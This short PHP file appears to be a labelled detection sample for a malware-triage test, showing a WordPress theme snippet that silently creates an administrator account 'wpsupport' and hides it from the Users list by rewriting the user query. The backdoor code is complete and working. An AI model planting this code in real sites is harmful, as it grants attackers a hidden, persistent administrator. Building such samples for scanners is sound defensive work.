<?php
// triage-expect: triage_php_wp_hidden_admin
// a "helper" dropped in a theme: keeps an administrator around and out of the Users list
add_action('init', function () {
    if (!username_exists('wpsupport')) {
        $id = wp_create_user('wpsupport', 'placeholder', 'support@example.invalid');
        $u = new WP_User($id);
        $u->set_role('administrator');
    }
});
add_action('pre_user_query', function ($q) {
    global $wpdb;
    $q->query_where = str_replace('WHERE 1=1', "WHERE 1=1 AND {$wpdb->users}.user_login != 'wpsupport'", $q->query_where);
});
add_filter('views_users', function ($views) { return $views; });
